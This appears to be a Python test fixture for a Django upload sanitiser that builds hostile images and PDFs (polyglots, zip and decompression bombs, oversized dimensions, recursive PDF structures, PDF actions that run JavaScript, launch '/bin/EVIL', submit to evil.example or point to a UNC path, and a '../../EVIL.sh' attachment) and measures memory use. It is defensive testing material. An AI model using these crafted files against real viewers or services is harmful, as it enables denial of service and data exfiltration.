"""Files that nobody should send, each with EVIL in whatever must not come through; run as a program it tells the memory they take."""

import contextlib
import io
import os
import resource
import struct
import sys
import zipfile
import zlib
from pathlib import Path

import pikepdf
from pikepdf import Array, Dictionary, Name, Stream, String
from PIL import Image, ImageDraw
from PIL.PngImagePlugin import PngInfo

MARK = b"EVIL"
PNG = b"\x89PNG\r\n\x1a\n"
SCRIPT = "app.alert('EVIL')"


# --- pictures --------------------------------------------------------------------------------------------------------


def paper(size=(210, 297), mode="RGB"):
    sheet = Image.new("RGB", size, "white")
    ImageDraw.Draw(sheet).line([(20, 200), (90, 180), (120, 210), (180, 190)], fill="navy", width=4)
    return sheet.convert(mode)


def saved(picture, kind, **more):
    out = io.BytesIO()
    picture.save(out, kind, **more)
    return out.getvalue()


def chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def a_png(width, height, *, depth=8, colour=2, data=b"", more=b""):
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0))
    return PNG + head + more + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def with_chunk(kind, data):
    whole = saved(paper(), "PNG")
    return whole[:33] + chunk(kind, data) + whole[33:]


def a_huge_jpeg(width, height):
    """A JPEG whose frame says another size than its data have."""
    whole = bytearray(saved(paper(), "JPEG"))
    at = whole.index(b"\xff\xc0") + 5
    whole[at : at + 4] = struct.pack(">HH", height, width)
    return bytes(whole)


def a_photo_with_a_place():
    exif = Image.Exif()
    exif.get_ifd(0x8825).update({1: "N", 2: (51.0, 30.0, 0.0), 29: "EVIL place"})
    exif[0x010E], exif[0x013B] = "EVIL description", "EVIL artist"
    return saved(paper(), "JPEG", exif=exif, comment=b"EVIL comment", xmp=b"<x:xmpmeta>EVIL</x:xmpmeta>")


def a_png_that_tells():
    info = PngInfo()
    info.add_text("Comment", "EVIL words")
    info.add_itxt("XML:com.adobe.xmp", "<x>EVIL</x>")
    exif = Image.Exif()
    exif[0x010E] = "EVIL description"
    return saved(paper(), "PNG", pnginfo=info, exif=exif)


def zipped(name="scan.png", data=b"EVIL" * 1000):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, data)
    return out.getvalue()


HTML = b"<!doctype html><script>alert('EVIL')</script>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>EVIL</script></svg>'
BLANK = zlib.compress(b"\0" * 20_000_000, 9)
PICTURES = {
    "nothing": b"",
    "one byte": b"\x89",
    "html": HTML,
    "svg": SVG,
    "svg with a picture's name in it": b"<?xml version='1.0'?>" + SVG,
    "zip": zipped(),
    "zip bomb": zipped(data=b"\0" * 20_000_000),
    "gzip": b"\x1f\x8b\x08" + BLANK,
    "program": b"\x7fELF EVIL" + bytes(500),
    "windows program": b"MZ EVIL" + bytes(500),
    "shell script": b"#!/bin/sh\nEVIL\n",
    "php": b"<?php EVIL ?>",
    "gif": saved(paper(), "GIF"),
    "gif that is a script": b"GIF89a/*EVIL*/=1;alert(1)",
    "tiff": saved(paper(), "TIFF"),
    "bmp": saved(paper(), "BMP"),
    "webp": saved(paper(), "WEBP"),
    "icon": saved(paper((64, 64)), "ICO"),
    "postscript": b"%!PS-Adobe-3.0 EPSF-3.0\n(EVIL) run\n",
    "html that starts as a gif": b"GIF87a" + HTML,
    "png and html": saved(paper(), "PNG") + HTML,
    "jpeg and html": saved(paper(), "JPEG") + HTML,
    "png and zip": saved(paper(), "PNG") + zipped(),
    "jpeg and zip": saved(paper(), "JPEG") + zipped(),
    "jpeg and pdf": saved(paper(), "JPEG") + b"%PDF-1.4 EVIL",
    "png with php in its palette": saved(paper().convert("P"), "PNG").replace(b"PLTE", b"PLTE", 1) + b"<?php EVIL ?>",
    "jpeg with a script in a comment": saved(paper(), "JPEG", comment=b"*/EVIL/*<script>"),
    "photo with a place": a_photo_with_a_place(),
    "png that tells": a_png_that_tells(),
    "only a png's head": PNG,
    "only a jpeg's head": b"\xff\xd8\xff",
    "jpeg of noise": b"\xff\xd8\xff" + os.urandom(2000),
    "png of noise": PNG + os.urandom(2000),
    "png cut short": saved(paper(), "PNG")[:-300],
    "jpeg cut short": saved(paper((800, 800)), "JPEG")[:1500],
    "png with a wrong sum": saved(paper(), "PNG").replace(b"IDAT", b"IDAt", 1),
    "png of a thousand million pixels": a_png(40_000, 25_000, depth=1, colour=0, data=zlib.compress(bytes(1000))),
    "png of all pixels": a_png(2**31 - 1, 2**31 - 1, data=zlib.compress(bytes(1000))),
    "png of no pixels": a_png(0, 0, data=zlib.compress(b"")),
    "png one pixel high": a_png(24_000_000, 1, depth=1, colour=0, data=zlib.compress(bytes(3_000_001))),
    "png that unpacks to more than it says": a_png(100, 100, data=BLANK),
    "png just within": a_png(5000, 5000, data=zlib.compress(bytes(5000 * 15_001), 9)),
    "png just within, seen through": a_png(5000, 5000, colour=6, data=zlib.compress(bytes(5000 * 20_001), 9)),
    "png of sixteen bits": a_png(3500, 3500, depth=16, colour=6, data=zlib.compress(bytes(3500 * 28_001), 9)),
    "png laced": PNG + chunk(b"IHDR", struct.pack(">IIBBBBB", 5000, 5000, 8, 6, 0, 0, 1)) + chunk(b"IDAT", BLANK) + chunk(b"IEND", b""),
    "png whose words unpack to 100 MB": with_chunk(b"zTXt", b"x\0\0" + zlib.compress(bytes(100_000_000), 9)),
    "png whose profile unpacks to 100 MB": with_chunk(b"iCCP", b"x\0\0" + zlib.compress(bytes(100_000_000), 9)),
    "png that moves": saved(paper(), "PNG", save_all=True, append_images=[paper((210, 297)).rotate(180)]),
    "jpeg of four thousand million pixels": a_huge_jpeg(65_535, 65_535),
    "jpeg of more than its data": a_huge_jpeg(4_900, 4_900),
    "jpeg of 1 x 65535": a_huge_jpeg(1, 65_535),
    "jpeg in slices": saved(paper((4900, 4900)), "JPEG", progressive=True),
    "jpeg for print, just within": saved(Image.new("CMYK", (5000, 5000)), "JPEG"),
    "more than eight megabytes": PNG + bytes(8 * 1024 * 1024),
}  # fmt: skip


# --- PDF -------------------------------------------------------------------------------------------------------------


def a_pdf(change=None, pages=1, size=(595, 842), **saving):
    out = io.BytesIO()
    with pikepdf.new() as pdf:
        for _ in range(pages):
            pdf.add_blank_page()
            pdf.pages[-1].MediaBox = Array([0, 0, *size])
        if change:
            change(pdf)
        pdf.save(out, **saving)
    return out.getvalue()


def action(kind, **more):
    return Dictionary(S=Name(f"/{kind}"), **more)


def opens(kind, **more):
    def change(pdf):
        pdf.Root.OpenAction = action(kind, **more)

    return a_pdf(change)


def attached(pdf):
    pdf.attachments["EVIL.html"] = HTML
    pdf.attachments["../../EVIL.sh"] = b"#!/bin/sh"


def linked(pdf):
    acts = [action("URI", URI=String("javascript:EVIL")), action("Launch", F=String("/bin/EVIL"))]
    pdf.pages[0].obj.Annots = Array(
        [
            pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 99, 99]), A=each))
            for each in acts
        ]
    )


def a_form(pdf):
    field = pdf.make_indirect(
        Dictionary(Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T=String("EVIL"), V=String("EVIL"), Rect=Array([0, 0, 99, 99]),
                   AA=Dictionary(K=action("JavaScript", JS=String(SCRIPT))))
    )  # fmt: skip
    pdf.pages[0].obj.Annots = Array([field])
    pdf.Root.AcroForm = Dictionary(Fields=Array([field]), XFA=Stream(pdf, b"<xdp>EVIL</xdp>"))


def named_script(pdf):
    pdf.Root.Names = Dictionary(
        JavaScript=Dictionary(Names=Array([String("EVIL"), action("JavaScript", JS=String(SCRIPT))]))
    )


def drawn(content):
    def change(pdf):
        pdf.pages[0].Contents = Stream(pdf, content)

    return change


def itself(pdf):
    """A form that draws itself."""
    form = pdf.make_indirect(
        Stream(pdf, b"/F Do /F Do", Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 9, 9]))
    )
    form.Resources = Dictionary(XObject=Dictionary(F=form))
    pdf.pages[0].Resources = Dictionary(XObject=Dictionary(F=form))
    pdf.pages[0].Contents = Stream(pdf, b"/F Do")


def a_bomb(pdf):
    """Many forms, each drawing the one before ten times."""
    inner = None
    for _ in range(12):
        here = Stream(pdf, b"0 0 5 5 re f" if inner is None else b"/F Do " * 10)
        here.Type, here.Subtype, here.BBox = Name.XObject, Name.Form, Array([0, 0, 600, 900])
        if inner is not None:
            here.Resources = Dictionary(XObject=Dictionary(F=inner))
        inner = pdf.make_indirect(here)
    pdf.pages[0].Resources = Dictionary(XObject=Dictionary(F=inner))
    pdf.pages[0].Contents = Stream(pdf, b"/F Do")


def a_huge_picture(pdf):
    image = Stream(pdf, zlib.compress(bytes(10_000)), Type=Name.XObject, Subtype=Name.Image, Width=100_000, Height=100_000,
                   ColorSpace=Name.DeviceRGB, BitsPerComponent=8, Filter=Name.FlateDecode)  # fmt: skip
    pdf.pages[0].Resources = Dictionary(XObject=Dictionary(I=image))
    pdf.pages[0].Contents = Stream(pdf, b"q 595 0 0 842 0 0 cm /I Do Q")


def a_stream_bomb(pdf):
    pdf.pages[0].Contents = Stream(pdf, zlib.compress(zlib.compress(b"0 0 m " * 20_000_000, 9), 9),
                                   Filter=Array([Name.FlateDecode, Name.FlateDecode]))  # fmt: skip


def nested(pdf):
    pages = pdf.Root.Pages
    for _ in range(3000):
        pages = pdf.make_indirect(Dictionary(Type=Name.Pages, Count=1, Kids=Array([pages])))
    pdf.Root.Pages = pages


def locked(password):
    return a_pdf(encryption=pikepdf.Encryption(owner="EVIL", user=password))


def written(body, start=None):
    """A PDF of these objects as they are written, with a table that begins at `start`."""
    head = b"%PDF-1.7\n" + body
    return head + b"trailer<</Root 1 0 R/Size 9>>\nstartxref\n%d\n%%%%EOF" % (len(head) if start is None else start)


LOOP = b"1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj 2 0 obj<</Type/Pages/Count 1/Kids[2 0 R]>>endobj\n"
PDFS = {
    "pdf with a script": opens("JavaScript", JS=String(SCRIPT)),
    "pdf with a named script": a_pdf(named_script),
    "pdf that starts a program": opens("Launch", F=String("/bin/EVIL")),
    "pdf that sends": opens("SubmitForm", F=String("http://evil.example/EVIL")),
    "pdf that goes elsewhere": opens("GoToR", F=String("\\\\evil.example\\EVIL"), D=Array([0, Name.Fit])),
    "pdf that takes data in": opens("ImportData", F=String("EVIL")),
    "pdf with files": a_pdf(attached),
    "pdf with links": a_pdf(linked),
    "pdf with a form": a_pdf(a_form),
    "pdf with words": a_pdf(drawn(b"BT (EVIL) Tj ET")),
    "pdf after html": HTML + a_pdf(),
    "pdf and html": a_pdf() + HTML,
    "pdf and zip": a_pdf() + zipped(),
    "only a pdf's head": b"%PDF-1.7\n",
    "pdf of noise": b"%PDF-1.7\n" + os.urandom(3000),
    "pdf cut short": a_pdf(pages=3)[:400],
    "pdf whose pages are their own children": written(LOOP),
    "pdf whose table points to itself": written(b"xref\n0 1\n0000000000 65535 f \ntrailer<</Prev 9/Root 1 0 R/Size 1>>\n", 9),
    "pdf whose table is elsewhere": written(LOOP, 2**62),
    "pdf without pages": written(b"1 0 obj<</Type/Catalog>>endobj\n"),
    "pdf that is nested": a_pdf(nested),
    "pdf in brackets": written(b"1 0 obj" + b"[" * 200_000 + b"endobj"),
    "locked pdf": locked("secret"),
    "pdf locked with nothing": locked(""),
    "pdf of 21 pages": a_pdf(pages=21),
    "pdf of 100 000 pages": written(
        b"1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj 2 0 obj<</Type/Pages/Count 100000/Kids[" + b"3 0 R " * 100_000
        + b"]>>endobj 3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>endobj\n"
    ),
    "pdf of giant pages": a_pdf(size=(14_400, 14_400)),
    "pdf of endless pages": a_pdf(size=(2**62, 2**62)),
    "pdf of thin pages": a_pdf(size=(1, 1_000_000)),
    "pdf of no size": a_pdf(size=(0, 0)),
    "pdf turned inside out": a_pdf(size=(-595, -842)),
    "pdf that draws itself": a_pdf(itself),
    "pdf bomb of forms": a_pdf(a_bomb),
    "pdf bomb of streams": a_pdf(a_stream_bomb),
    "pdf with a huge picture": a_pdf(a_huge_picture),
    "pdf that saves a million states": a_pdf(drawn(b"q " * 1_000_000)),
}  # fmt: skip
FILES = {**PICTURES, **PDFS}


# --- memory ----------------------------------------------------------------------------------------------------------


def told(name):
    return int(Path("/proc/self/status").read_text().split(f"{name}:")[1].split()[0]) // 1024


def above_rest(data):
    """MiB that one upload takes above rest, poppler's own among them, in a process of its own."""
    from consent.papering import scans

    reading, writing = os.pipe()
    if os.fork() == 0:
        Path("/proc/self/clear_refs").write_text("5")
        rest = told("VmRSS")
        with contextlib.suppress(scans.NotAScan):
            scans.clean(io.BytesIO(data))
        poppler = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss // 1024
        os.write(writing, str(told("VmHWM") - rest + poppler).encode())
        os._exit(0)
    os.close(writing)
    with open(reading) as answer:
        taken = answer.read()
    os.wait()
    return int(taken) if taken else None


def main():
    import django

    django.setup()
    from consent.papering import scans

    scans.CPU_SECONDS = 2
    for name in sys.argv[1:]:
        print(f"{name}\t{above_rest(FILES[name])}", flush=True)


if __name__ == "__main__":
    sys.exit(main())
